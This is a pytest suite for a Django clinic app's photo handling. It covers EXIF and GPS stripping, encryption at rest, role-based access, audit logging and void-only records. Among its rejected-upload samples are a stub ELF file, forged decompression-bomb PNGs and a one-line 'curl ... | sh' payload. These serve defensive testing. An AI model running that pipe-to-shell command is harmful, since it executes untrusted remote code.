"""Clinical photos: checked by content, stripped of EXIF (GPS above all), turned upright,
encrypted at rest, served only to clinical staff of the clinic through audited views that
nothing caches, voided with a reason and never edited or deleted.

Every image here is drawn by the test (shapes, never a person)."""

import datetime as dt
import importlib
import io
import os
import struct
import subprocess
import sys
import uuid
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pillow_heif
import pytest
from django.conf import settings as django_settings
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.urls import reverse
from django.utils import timezone
from PIL import Image, ImageDraw, PngImagePlugin

from mesoclinic.audit.models import AuditEvent
from mesoclinic.jinja_env import date as shown_date
from mesoclinic.photos import forms, images, services
from mesoclinic.photos.models import Photo
from mesoclinic.photos.storage import EncryptedStorage, UnreadablePhoto, photo_storage
from mesoclinic.tenancy import acting_for
from tests.factories import client_for, give_photo_consent, make_session

triggers = importlib.import_module("mesoclinic.photos.migrations.0002_photos_are_signed")
pillow_heif.register_heif_opener()

ALL = ["owner", "practitioner", "esthetician", "reception", "outsider"]
CLINICAL = ["owner", "practitioner", "esthetician"]
KINDS = ["original", "screen", "thumb"]
ORIENTATION, GPS_IFD = 0x0112, 0x8825
RED = (220, 30, 30)


@pytest.fixture
def patient(patient, org, practitioner):
    """The patient, with consent to clinical photos (none is taken without it)."""
    give_photo_consent(org, practitioner, patient)
    return patient


# --- images drawn for the tests ----------------------------------------------------


def drawing(size=(600, 400)) -> Image.Image:
    """A grey card with a red block in its top-left corner and a blue disc."""
    image = Image.new("RGB", size, (200, 200, 200))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, size[0] // 5, size[1] // 5), fill=RED)
    draw.ellipse((size[0] // 3, size[1] // 3, size[0] // 2, size[1] // 2), fill=(30, 60, 200))
    return image


def camera_exif(orientation=6) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "Clinic Camera Co"  # Make
    exif[0x0132] = "2026:11:02 10:00:00"  # DateTime
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2] = "N", (48.0, 51.0, 29.6)
    gps[3], gps[4] = "E", (2.0, 17.0, 40.2)
    return exif


def jpeg_with_gps(size=(600, 400), orientation=6) -> bytes:
    buffer = io.BytesIO()
    drawing(size).save(
        buffer,
        format="JPEG",
        exif=camera_exif(orientation).tobytes(),
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><GPSLatitude>48,51N</GPSLatitude></x:xmpmeta>',
        comment=b"Anna Garcia, home address",
    )
    return buffer.getvalue()


def png_with_text(size=(300, 200)) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "48.8582 N, 2.2945 E")
    buffer = io.BytesIO()
    drawing(size).save(buffer, format="PNG", pnginfo=info, exif=camera_exif(1).tobytes())
    return buffer.getvalue()


def heic(size=(480, 360)) -> bytes:
    buffer = io.BytesIO()
    drawing(size).save(buffer, format="HEIF", quality=70, exif=camera_exif(1).tobytes())
    return buffer.getvalue()


def small_jpeg(size=(160, 120)) -> bytes:
    buffer = io.BytesIO()
    drawing(size).save(buffer, format="JPEG", quality=70)
    return buffer.getvalue()


def forged_png_header(width=50_000, height=50_000) -> bytes:
    """A real 1x1 PNG whose header claims it is `width` x `height`: a bomb's header."""
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1)).save(buffer, format="PNG")
    data = buffer.getvalue()
    ihdr = data[12:16] + struct.pack(">II", width, height) + data[24:29]
    return data[:8] + data[8:12] + ihdr + struct.pack(">I", zlib.crc32(ihdr)) + data[33:]


def huge_blank_png() -> bytes:
    """10,000 x 10,000 pixels of white in a file of a few kilobytes."""
    buffer = io.BytesIO()
    Image.new("1", (10_000, 10_000), 1).save(buffer, format="PNG")
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


# --- helpers -------------------------------------------------------------------------


def page_url(patient):
    return reverse("patient_photos", args=[patient.public_id])


def post_photo(
    client, patient, data, name="photo.jpg", content_type="image/jpeg", field="photo", **fields
):
    """`field`: the input the file is sent by, `photo` (the camera's) or `photo_file`."""
    values = {
        "view": "face-front",
        "area": "",
        "side": "",
        "device": "iPad camera",
        "session": "",
        "submission_key": str(uuid.uuid4()),
        **fields,
        field: SimpleUploadedFile(name, data, content_type=content_type),
    }
    return client.post(reverse("photo_add", args=[patient.public_id]), values)


class _Elements(HTMLParser):
    def __init__(self, tag: str) -> None:
        super().__init__()
        self.tag, self.found = tag, []

    def handle_starttag(self, tag, attrs):
        if tag == self.tag:
            self.found.append(dict(attrs))


def elements(html: str, tag: str) -> list[dict[str, str | None]]:
    """The attributes of each `tag` element in the page, in order."""
    parser = _Elements(tag)
    parser.feed(html)
    return parser.found


def ghosts(html: str) -> dict[str, dict[str, str | None]]:
    """The live camera's ghosts on the page: each view's image and caption."""
    return {li["data-view"]: li for li in elements(html, "li") if "data-view" in li}


def photos_of(org, patient):
    with acting_for(org):
        return list(Photo.all_orgs.filter(patient=patient).order_by("id"))


def stored_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def photo_root() -> Path:
    return Path(django_settings.STORAGES["photos"]["OPTIONS"]["inner_options"]["location"])


def add(org, user, patient, data=None, **fields) -> Photo:
    values = {"view": "face-front", "area": "", "side": "", "device": "Clinic camera"}
    values.update(fields)
    with acting_for(org):
        return services.add_photo(
            user,
            patient,
            io.BytesIO(data or small_jpeg()),
            submission_key=uuid.uuid4(),
            **values,
        )


@pytest.fixture
def photo(org, practitioner, patient):
    return add(org, practitioner, patient, jpeg_with_gps())


def read_back(org, name) -> Image.Image:
    with acting_for(org):
        return Image.open(io.BytesIO(photo_storage().read(name)))


# --- the pipeline itself (no database) ---------------------------------------------


def test_exif_gps_xmp_and_comments_are_removed_and_orientation_applied():
    prepared = images.prepare(jpeg_with_gps(), max_bytes=25 << 20)
    for encoded in (prepared.original, prepared.screen, prepared.thumb):
        image = Image.open(io.BytesIO(encoded.data))
        assert image.format == "JPEG" and encoded.mime == "image/jpeg"
        assert dict(image.getexif()) == {}
        assert not {"exif", "xmp", "comment"} & set(image.info)
        for marker in (b"Exif", b"GPS", b"xmpmeta", b"Anna Garcia", b"Clinic Camera Co"):
            assert marker not in encoded.data
    # Orientation 6: the camera was turned; the upright picture is 400 wide, 600 high, and
    # the red block drawn top-left on the sensor is now top-right.
    assert (prepared.original.width, prepared.original.height) == (400, 600)
    original = Image.open(io.BytesIO(prepared.original.data)).convert("RGB")
    assert _near(original.getpixel((390, 10)), RED) and not _near(original.getpixel((10, 10)), RED)


def _near(pixel, colour, tolerance=40):
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, colour, strict=True))


def test_derivatives_are_made_once_at_their_sizes():
    prepared = images.prepare(jpeg_with_gps(size=(4000, 3000), orientation=1), max_bytes=25 << 20)
    assert (prepared.original.width, prepared.original.height) == (4000, 3000)
    assert (prepared.screen.width, prepared.screen.height) == (1600, 1200)
    assert (prepared.thumb.width, prepared.thumb.height) == (320, 240)


def test_a_png_stays_a_png_without_its_text_chunks():
    prepared = images.prepare(png_with_text(), max_bytes=25 << 20)
    assert prepared.original.mime == "image/png"
    image = Image.open(io.BytesIO(prepared.original.data))
    assert image.format == "PNG" and image.size == (300, 200)
    assert "Location" not in image.info and b"48.8582" not in prepared.original.data
    assert dict(image.getexif()) == {}


def test_heic_from_an_ipad_is_accepted_and_kept_as_jpeg():
    data = heic()
    assert data[4:12] == b"ftypheic"
    prepared = images.prepare(data, max_bytes=25 << 20)
    assert prepared.original.mime == "image/jpeg"
    assert (prepared.original.width, prepared.original.height) == (480, 360)
    assert b"Clinic Camera Co" not in prepared.original.data


def test_the_upload_digest_is_of_the_file_as_received():
    import hashlib

    data = jpeg_with_gps()
    assert images.prepare(data, max_bytes=25 << 20).sha256 == hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize(
    "data",
    [ELF, SHELL, b"", b"GIF89a" + bytes(40), b"%PDF-1.7\n" + bytes(50)],
    ids=["elf", "shell", "empty", "gif", "pdf"],
)
def test_anything_but_a_photo_is_refused_by_its_content(data):
    with pytest.raises(images.ImageRefused, match=r"not a photo \(JPEG, PNG or HEIC\)"):
        images.prepare(data, max_bytes=25 << 20)


def test_a_gif_is_refused_even_when_pillow_could_read_it():
    buffer = io.BytesIO()
    drawing((50, 50)).save(buffer, format="GIF")
    with pytest.raises(images.ImageRefused, match="not a photo"):
        images.prepare(buffer.getvalue(), max_bytes=25 << 20)


def test_no_decoder_but_jpeg_png_and_heic_ever_reads_an_upload(monkeypatch):
    from PIL import GifImagePlugin

    read = []
    monkeypatch.setattr(GifImagePlugin.GifImageFile, "_open", lambda self: read.append(self))
    buffer = io.BytesIO()
    drawing((50, 50)).save(buffer, format="GIF")
    with pytest.raises(images.ImageRefused, match="not a photo"):
        images.prepare(buffer.getvalue(), max_bytes=25 << 20)
    assert read == []


@pytest.mark.parametrize("data", [forged_png_header(), huge_blank_png()], ids=["header", "real"])
def test_a_decompression_bomb_is_refused_before_it_is_unpacked(data):
    assert len(data) < 100_000
    with pytest.raises(images.ImageRefused, match="too large to open safely"):
        images.prepare(data, max_bytes=25 << 20)


def test_a_file_over_the_size_limit_is_refused_unread():
    with pytest.raises(images.ImageRefused, match=r"^This photo is larger than 25 MB\.$"):
        images.prepare(b"\xff\xd8" + bytes(25 << 20), max_bytes=25 << 20)


def test_a_truncated_photo_is_refused_as_damaged():
    data = jpeg_with_gps(size=(800, 600))
    with pytest.raises(images.ImageRefused, match="damaged"):
        images.prepare(data[: len(data) // 2], max_bytes=25 << 20)


def test_a_truncated_photo_is_refused_after_a_pdf_was_made(monkeypatch):
    """WeasyPrint (the PDFs) makes Pillow accept truncated images process-wide."""
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    data = jpeg_with_gps(size=(800, 600))
    with pytest.raises(images.ImageRefused, match="damaged"):
        images.prepare(data[: len(data) // 2], max_bytes=25 << 20)
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # WeasyPrint's own images unchanged


# --- storage: encrypted at rest, outside every served path --------------------------


def test_stored_bytes_are_not_a_jpeg_and_decrypt_to_one(org, photo):
    files = stored_files(photo_root())
    assert len(files) == 3
    for path in files:
        raw = path.read_bytes()
        assert not raw.startswith(b"\xff\xd8") and b"JFIF" not in raw
        assert raw.startswith(b"gAAAAA")  # a Fernet token
        assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert read_back(org, photo.original_name).format == "JPEG"


def test_the_stored_original_has_no_exif_and_is_upright(org, photo):
    original = read_back(org, photo.original_name)
    assert dict(original.getexif()) == {} and "exif" not in original.info
    assert original.size == (400, 600) == (photo.width, photo.height)
    with acting_for(org):
        raw = photo_storage().read(photo.original_name)
    assert b"GPS" not in raw and b"Exif" not in raw


def test_a_file_does_not_decrypt_with_another_key(org, photo):
    other = EncryptedStorage(
        key="x" * 43, inner_options={"location": str(photo_root())}
    )  # 32 bytes of base64
    with pytest.raises(UnreadablePhoto):
        other.read(photo.original_name)


def test_stored_photos_have_no_url(db):
    with pytest.raises(NotImplementedError):
        photo_storage().url("anything")


def test_a_key_that_is_not_32_bytes_is_refused():
    from django.core.exceptions import ImproperlyConfigured

    with pytest.raises(ImproperlyConfigured, match="32 random bytes"):
        EncryptedStorage(key="too short")


def _run_settings(code, tmp_path, **env):
    full = {k: v for k, v in os.environ.items() if not k.startswith("MESOCLINIC_")}
    full.update(MESOCLINIC_DATA_DIR=str(tmp_path), DJANGO_SETTINGS_MODULE="mesoclinic.settings")
    full.update(env)
    prelude = "import django;from django.conf import settings;django.setup();"
    return subprocess.run(
        [sys.executable, "-c", prelude + code],
        env=full,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_photo_key_is_generated_once_with_mode_600_and_photos_live_in_the_data_dir(
    tmp_path,
):
    code = (
        "from django.core.files.storage import storages;s=storages['photos'];"
        "print(s.inner.location);print(settings.STATIC_ROOT);print(settings.PHOTO_MAX_BYTES)"
    )
    first, second = _run_settings(code, tmp_path), _run_settings(code, tmp_path)
    assert first.returncode == 0, first.stderr
    key = tmp_path / "photo_key"
    assert oct(key.stat().st_mode & 0o777) == "0o600"
    assert first.stdout == second.stdout
    location, static_root, max_bytes = first.stdout.split()
    assert Path(location) == tmp_path / "photos"
    assert not Path(location).is_relative_to(static_root)
    assert int(max_bytes) == 25 * 1024 * 1024
    EncryptedStorage(key=key.read_text())  # a valid key


def test_another_storage_class_can_keep_the_encrypted_files(tmp_path):
    code = (
        "from django.core.files.storage import storages;s=storages['photos'];"
        "from django.core.files.base import ContentFile;n=s.save('a/b',ContentFile(b'x'));"
        "print(type(s.inner).__name__, s.inner.location, s.read(n), s.inner.open(n).read()[:6])"
    )
    result = _run_settings(
        code,
        tmp_path,
        MESOCLINIC_PHOTO_STORAGE="django.core.files.storage.InMemoryStorage",
        MESOCLINIC_PHOTO_STORAGE_OPTIONS='{"location": "clinic-photos"}',
        MESOCLINIC_PHOTO_MAX_MB="40",
    )
    assert result.returncode == 0, result.stderr
    name, location, *data = result.stdout.split()
    assert (name, Path(location).name, data) == (
        "InMemoryStorage",
        "clinic-photos",
        ["b'x'", "b'gAAAAA'"],
    )


def test_storage_options_must_be_a_json_object(tmp_path):
    result = _run_settings("", tmp_path, MESOCLINIC_PHOTO_STORAGE_OPTIONS="bucket=x")
    assert result.returncode != 0
    assert "MESOCLINIC_PHOTO_STORAGE_OPTIONS must be a JSON object" in result.stderr


# --- taking a photo through the page -------------------------------------------------


def test_a_photo_taken_on_the_page_is_kept_upright_without_gps(org, practitioner, patient):
    client = client_for(practitioner)
    response = post_photo(client, patient, jpeg_with_gps(), view="face-45-left", side="left")
    assert response.status_code == 302
    [saved] = photos_of(org, patient)
    assert (saved.view, saved.side, saved.device) == ("face-45-left", "left", "iPad camera")
    assert saved.taken_by == practitioner and saved.mime == "image/jpeg"
    assert (saved.width, saved.height) == (400, 600)
    assert dict(read_back(org, saved.original_name).getexif()) == {}
    page = client.get(page_url(patient)).content.decode()
    assert "Face, 45° left" in page and "face-45-left</" not in page
    assert reverse("photo_image", args=[saved.public_id, "thumb"]) in page


def test_the_form_opens_the_camera_and_accepts_only_photos(practitioner, patient):
    page = client_for(practitioner).get(page_url(patient)).content.decode()
    assert 'accept="image/jpeg,image/png,image/heic,image/heif"' in page
    assert 'capture="environment"' in page
    assert 'enctype="multipart/form-data"' in page
    assert "Submental, front, chin raised" in page and "Hair-count target area" in page


def test_the_form_offers_the_camera_and_a_file_from_the_device(practitioner, patient):
    """A tablet opens only its camera for an input with `capture`: the second input, without
    it, reaches a clinic camera's files copied onto the device."""
    page = client_for(practitioner).get(page_url(patient)).content.decode()
    files = [e for e in elements(page, "input") if e.get("type") == "file"]
    assert [(e["name"], e.get("capture")) for e in files] == [
        ("photo", "environment"),
        ("photo_file", None),
    ]
    assert {e["accept"] for e in files} == {"image/jpeg,image/png,image/heic,image/heif"}
    assert '<label for="id_photo_file">Or choose a file from this device</label>' in page
    assert "Use the live camera" in page
    assert [e["src"] for e in elements(page, "script") if "camera" in (e.get("src") or "")] == [
        "/static/js/camera.js"
    ]


def test_a_file_chosen_from_the_device_is_kept_like_a_photo_taken(org, practitioner, patient):
    client = client_for(practitioner)
    response = post_photo(
        client, patient, jpeg_with_gps(), field="photo_file", device="Clinic camera"
    )
    assert response.status_code == 302
    [saved] = photos_of(org, patient)
    assert (saved.view, saved.device) == ("face-front", "Clinic camera")
    assert saved.taken_by == practitioner
    assert (saved.width, saved.height) == (400, 600)
    assert dict(read_back(org, saved.original_name).getexif()) == {}
    assert "Photo kept: Face, front." in client.get(page_url(patient)).content.decode()


@pytest.mark.parametrize("given, message", [("both", forms.BOTH_GIVEN), ("none", forms.NONE_GIVEN)])
def test_both_inputs_or_neither_is_one_error_next_to_the_photo(
    org, practitioner, patient, given, message
):
    values = {
        "view": "face-front",
        "area": "",
        "side": "",
        "device": "Clinic camera 2",
        "session": "",
        "submission_key": str(uuid.uuid4()),
    }
    if given == "both":
        values["photo"] = SimpleUploadedFile("a.jpg", small_jpeg(), content_type="image/jpeg")
        values["photo_file"] = SimpleUploadedFile("b.jpg", small_jpeg(), content_type="image/jpeg")
    url = reverse("photo_add", args=[patient.public_id])
    response = client_for(practitioner).post(url, values)
    assert response.status_code == 400
    page = response.content.decode()
    assert page.count('class="error"') == 1
    assert f'<p class="error" id="id_photo_error">{message}</p>' in page
    assert 'value="Clinic camera 2"' in page
    assert photos_of(org, patient) == [] and stored_files(photo_root()) == []


def test_a_refused_file_from_the_device_is_named_next_to_the_photo(org, practitioner, patient):
    response = post_photo(client_for(practitioner), patient, ELF, field="photo_file")
    assert response.status_code == 400
    page = response.content.decode()
    refusal = "This file is not a photo (JPEG, PNG or HEIC)."
    assert f'<p class="error" id="id_photo_error">{refusal}</p>' in page
    assert photos_of(org, patient) == [] and stored_files(photo_root()) == []


def test_the_ghost_of_each_view_is_its_first_photo_never_a_voided_one_or_another_patients(
    org, practitioner, patient, make_patient
):
    now = timezone.now()

    def taken(days_ago, view="face-front", whose=patient):
        return add(org, practitioner, whose, view=view, taken_at=now - dt.timedelta(days=days_ago))

    other = make_patient(first_name="Berta")
    give_photo_consent(org, practitioner, other)
    others_first = taken(60, whose=other)
    voided_first = taken(40)
    first = taken(20)
    taken(10)
    profile = taken(5, view="face-45-left")
    voided_only = taken(3, view="body-front")
    with acting_for(org):
        services.void_photo(practitioner, voided_first, "Taken of the wrong patient")
        services.void_photo(practitioner, voided_only, "Blurred")
    page = client_for(practitioner).get(page_url(patient)).content.decode()
    found = ghosts(page)
    assert {view: g["data-src"] for view, g in found.items()} == {
        "face-front": reverse("photo_image", args=[first.public_id, "screen"]),
        "face-45-left": reverse("photo_image", args=[profile.public_id, "screen"]),
    }
    day = shown_date(first.taken_at, "j M Y")
    assert found["face-front"]["data-caption"] == f"Ghost of the first photo of this view ({day})"
    for never in (others_first, voided_first, voided_only):
        assert f"/photos/{never.public_id}/screen/" not in page


@pytest.mark.parametrize("role", ["reception", "outsider"])
def test_staff_who_never_see_photos_get_no_ghost(personas, role, patient, photo):
    response = client_for(personas[role]).get(page_url(patient))
    assert response.status_code in (403, 404)
    page = response.content.decode()
    assert ghosts(page) == {} and str(photo.public_id) not in page


def test_a_heic_upload_is_accepted(org, practitioner, patient):
    response = post_photo(
        client_for(practitioner), patient, heic(), name="IMG_0001.HEIC", content_type="image/heic"
    )
    assert response.status_code == 302
    [saved] = photos_of(org, patient)
    assert saved.mime == "image/jpeg" and (saved.width, saved.height) == (480, 360)
    assert read_back(org, saved.screen_name).format == "JPEG"


@pytest.mark.parametrize(
    "data, message",
    [
        (ELF, "This file is not a photo (JPEG, PNG or HEIC)."),
        (SHELL, "This file is not a photo (JPEG, PNG or HEIC)."),
        (forged_png_header(), "This image is too large to open safely."),
        (huge_blank_png(), "This image is too large to open safely."),
    ],
    ids=["elf", "shell", "bomb-header", "bomb-real"],
)
def test_a_refused_file_is_named_next_to_the_field_and_nothing_else_is_lost(
    org, practitioner, patient, data, message
):
    response = post_photo(
        client_for(practitioner),
        patient,
        data,
        name="photo.jpg",
        view="submental-profile",
        area="submental",
        side="right",
        device="Clinic camera 2",
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert f'<p class="error" id="id_photo_error">{message}</p>' in page
    assert '<option value="submental-profile" selected>' in page
    assert '<option value="submental" selected>' in page
    assert '<option value="right" selected>' in page
    assert 'value="Clinic camera 2"' in page
    assert photos_of(org, patient) == [] and stored_files(photo_root()) == []


def test_a_file_over_the_limit_is_refused_with_the_limit(org, practitioner, patient, settings):
    settings.PHOTO_MAX_BYTES = 1 << 20
    noise = Image.frombytes("RGB", (800, 800), os.urandom(800 * 800 * 3))
    buffer = io.BytesIO()
    noise.save(buffer, format="PNG")
    assert buffer.tell() > 1 << 20
    response = post_photo(client_for(practitioner), patient, buffer.getvalue(), name="big.png")
    assert response.status_code == 400
    assert "This photo is larger than 1 MB." in response.content.decode()
    assert photos_of(org, patient) == []


def test_a_double_submit_makes_one_photo(org, practitioner, patient):
    client = client_for(practitioner)
    key = str(uuid.uuid4())
    for _ in range(2):
        assert post_photo(client, patient, small_jpeg(), submission_key=key).status_code == 302
    assert len(photos_of(org, patient)) == 1
    assert len(stored_files(photo_root())) == 3


def test_a_session_or_assessment_of_another_patient_is_refused(
    org, site, practitioner, patient, make_patient
):
    other = make_patient(first_name="Berta")
    session = make_session(org, other, site, practitioner)
    with pytest.raises(services.PhotoRefused, match="not one of this patient's"):
        add(org, practitioner, patient, session=session)
    mine = make_session(org, patient, site, practitioner)
    assert add(org, practitioner, patient, session=mine).session == mine


def test_a_view_outside_the_catalogue_is_refused(org, practitioner, patient):
    with pytest.raises(services.PhotoRefused, match="Choose the view"):
        add(org, practitioner, patient, view="selfie")


# --- who may ---------------------------------------------------------------------------


def _expected(role):
    return 200 if role in CLINICAL else 404 if role == "outsider" else 403


@pytest.mark.parametrize("role", ALL)
def test_the_photos_page_and_a_photo_are_for_clinical_staff_of_the_clinic(
    personas, role, patient, photo
):
    client = client_for(personas[role])
    assert client.get(page_url(patient)).status_code == _expected(role)
    detail = client.get(reverse("photo_detail", args=[photo.public_id]))
    assert detail.status_code == _expected(role)
    if role in CLINICAL:
        assert "no-store" in detail["Cache-Control"]
        assert "Clinic camera" in detail.content.decode()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("role", ALL)
def test_each_image_is_served_to_clinical_staff_only_never_cached(personas, role, kind, photo, org):
    response = client_for(personas[role]).get(reverse("photo_image", args=[photo.public_id, kind]))
    assert response.status_code == _expected(role)
    if role not in CLINICAL:
        assert not response.content.startswith(b"\xff\xd8")
        return
    assert response["Content-Type"] == "image/jpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert response.content.startswith(b"\xff\xd8")
    with acting_for(org):
        events = AuditEvent.objects.filter(object_id=str(photo.public_id), detail=f"image {kind}")
        assert events.count() == 1 and events.get().actor == personas[role]


@pytest.mark.parametrize("role", ["reception", "outsider"])
def test_only_clinical_staff_of_the_clinic_upload(personas, role, org, patient):
    response = post_photo(client_for(personas[role]), patient, small_jpeg())
    assert response.status_code == (403 if role == "reception" else 404)
    assert photos_of(org, patient) == [] and stored_files(photo_root()) == []


def test_reception_learns_nothing_of_which_photos_exist(org, reception, practitioner, photo):
    """Refused before the photo is looked up: a voided or unknown photo is a 403 too."""
    with acting_for(org):
        services.void_photo(practitioner, photo, "Wrong patient entirely")
    client = client_for(reception)
    for public_id in (photo.public_id, uuid.uuid4()):
        for kind in (*KINDS, "exif"):
            url = f"/photos/{public_id}/{kind}/"
            assert client.get(url).status_code == 403


def test_reception_posting_an_incomplete_form_sees_no_photos(reception, patient, photo):
    response = post_photo(client_for(reception), patient, small_jpeg(), view="")
    assert response.status_code == 403
    assert str(photo.public_id) not in response.content.decode()


@pytest.mark.parametrize("reason", ["", "Taken of the wrong patient"])
def test_reception_cannot_void_a_photo_or_see_its_page(org, reception, photo, reason):
    url = reverse("photo_void", args=[photo.public_id])
    response = client_for(reception).post(url, {"reason": reason})
    assert response.status_code == 403 and b"Clinic camera" not in response.content
    with acting_for(org):
        photo.refresh_from_db()
    assert photo.voided_at is None


def test_reception_is_refused_below_the_views_too(org, reception, practitioner, patient, photo):
    with pytest.raises(PermissionDenied):
        add(org, reception, patient)
    with acting_for(org), pytest.raises(PermissionDenied):
        services.read_image(reception, photo, "thumb")
    with acting_for(org), pytest.raises(PermissionDenied):
        services.void_photo(reception, photo, "Wrong patient entirely")


def test_an_unknown_image_kind_is_a_404(practitioner, photo):
    url = f"/photos/{photo.public_id}/exif/"
    assert client_for(practitioner).get(url).status_code == 404


@pytest.mark.parametrize("role", ["owner", "practitioner", "esthetician", "reception"])
def test_the_chart_links_the_photos_for_clinical_roles(personas, role, patient):
    chart = client_for(personas[role]).get(reverse("patient_detail", args=[patient.public_id]))
    assert (page_url(patient) in chart.content.decode()) == (role in CLINICAL)


# --- audit ---------------------------------------------------------------------------


def test_every_read_and_change_is_audited(org, practitioner, patient):
    client = client_for(practitioner)
    post_photo(client, patient, small_jpeg())
    [saved] = photos_of(org, patient)
    client.get(page_url(patient))
    client.get(reverse("photo_detail", args=[saved.public_id]))
    for kind in KINDS:
        client.get(reverse("photo_image", args=[saved.public_id, kind]))
    client.post(reverse("photo_void", args=[saved.public_id]), {"reason": "Wrong patient"})
    with acting_for(org):
        events = AuditEvent.objects.filter(actor=practitioner).exclude(action="login")
        events = events.order_by("id")
        seen = [(e.action, e.object_type, e.detail) for e in events]
    assert seen == [
        ("create", "photoconsent", "clinical"),  # the patient fixture's consent
        ("create", "photo", "face-front"),
        ("view", "patient", "photos"),
        ("view", "photo", ""),
        ("view", "photo", "image original"),
        ("view", "photo", "image screen"),
        ("view", "photo", "image thumb"),
        ("void", "photo", "Wrong patient"),
    ]


# --- void, never edit or delete ----------------------------------------------------------


def test_a_voided_photo_keeps_its_page_but_not_its_images(org, practitioner, patient, photo):
    client = client_for(practitioner)
    void = reverse("photo_void", args=[photo.public_id])
    assert client.post(void, {"reason": ""}).status_code == 400
    response = client.post(void, {"reason": "Taken of the wrong patient"})
    assert response.status_code == 302
    with acting_for(org):
        photo.refresh_from_db()
    assert photo.voided_by == practitioner and photo.void_reason == "Taken of the wrong patient"
    detail = client.get(reverse("photo_detail", args=[photo.public_id])).content.decode()
    assert "Voided: Taken of the wrong patient" in detail
    assert reverse("photo_image", args=[photo.public_id, "screen"]) not in detail
    for kind in KINDS:
        assert client.get(reverse("photo_image", args=[photo.public_id, kind])).status_code == 404
    page = client.get(page_url(patient)).content.decode()
    assert reverse("photo_image", args=[photo.public_id, "thumb"]) not in page
    assert "Voided photos" in page
    with acting_for(org):
        assert services.void_photo(practitioner, photo, "Again, no change") is False


def test_a_voided_photos_images_are_refused_by_the_access_helper_and_the_service(
    org, practitioner, photo
):
    from django.http import Http404

    from mesoclinic.photos.access import get_shown_photo

    with acting_for(org):
        services.void_photo(practitioner, photo, "Wrong patient entirely")
        with pytest.raises(Http404):
            get_shown_photo(photo.public_id)
        with pytest.raises(services.PhotoRefused, match="voided"):
            services.read_image(practitioner, photo, "thumb")


def test_void_needs_a_reason_next_to_the_field(practitioner, photo):
    response = client_for(practitioner).post(
        reverse("photo_void", args=[photo.public_id]), {"reason": "x"}
    )
    assert response.status_code == 400
    assert 'id="id_reason_error"' in response.content.decode()


def test_the_database_refuses_to_edit_or_delete_a_photo(org, photo):
    with acting_for(org):
        for change in ({"view": "face-front"}, {"view": "body-back"}, {"original_name": "x"}):
            if change == {"view": "face-front"}:
                Photo.objects.filter(pk=photo.pk).update(**change)  # unchanged: allowed
                continue
            with pytest.raises(Exception, match="signed records"), transaction.atomic():
                Photo.objects.filter(pk=photo.pk).update(**change)
        with pytest.raises(Exception, match="signed records"), transaction.atomic():
            Photo.objects.filter(pk=photo.pk).delete()
        Photo.objects.filter(pk=photo.pk).update(voided_at=photo.taken_at, void_reason="Error")
        with pytest.raises(Exception, match="signed records"), transaction.atomic():
            Photo.objects.filter(pk=photo.pk).update(void_reason="Something else")


def test_every_photo_trigger_exists_on_this_database(db):
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")
            expected = {t.split(" ")[2] for t in triggers.SQLITE}
        else:
            cursor.execute("SELECT tgname FROM pg_trigger WHERE NOT tgisinternal")
            expected = {"photo_immutable", "chartv_photos_photo"}
        present = {row[0] for row in cursor.fetchall()}
    assert expected <= present


def test_a_photo_and_its_void_refresh_the_cached_chart(org, practitioner, patient):
    with acting_for(org):
        before = type(patient).objects.get(pk=patient.pk).chart_version
        taken = add(org, practitioner, patient)
        after_photo = type(patient).objects.get(pk=patient.pk).chart_version
        services.void_photo(practitioner, taken, "Wrong view taken")
        after_void = type(patient).objects.get(pk=patient.pk).chart_version
    assert before < after_photo < after_void


# --- cost --------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [3, 20])
def test_the_photos_page_costs_the_same_queries_for_3_or_20_photos(
    org, practitioner, patient, count, django_assert_max_num_queries
):
    views = ["face-front", "face-45-left", "body-front", "scalp-vertex"]
    for i in range(count):
        add(org, practitioner, patient, view=views[i % len(views)])
    client = client_for(practitioner)
    client.get(page_url(patient))  # the session and user, loaded once
    # The patient, the sessions offered, the photos, the consents (the panel), the audit.
    with django_assert_max_num_queries(7):
        page = client.get(page_url(patient))
    assert page.content.decode().count('class="photo-card"') == count
    # The live camera's ghosts, one per view photographed, come from the same photos.
    assert sorted(ghosts(page.content.decode())) == sorted(views[:count])


def test_a_photo_cannot_be_taken_in_the_future(org, practitioner, patient):
    import datetime as dt

    from django.utils import timezone

    with pytest.raises(services.PhotoRefused, match="future"):
        add(org, practitioner, patient, taken_at=timezone.now() + dt.timedelta(hours=1))
    earlier = timezone.now() - dt.timedelta(days=30)
    assert add(org, practitioner, patient, taken_at=earlier).taken_at == earlier
